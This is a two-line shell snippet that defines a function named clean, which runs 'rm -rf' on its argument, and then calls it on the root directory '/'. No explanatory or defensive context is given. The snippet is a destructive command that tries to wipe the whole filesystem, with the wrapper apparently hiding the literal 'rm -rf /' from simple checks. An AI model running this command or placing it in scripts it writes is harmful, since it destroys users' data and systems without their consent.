clean() { rm -rf "$1"; }
clean /
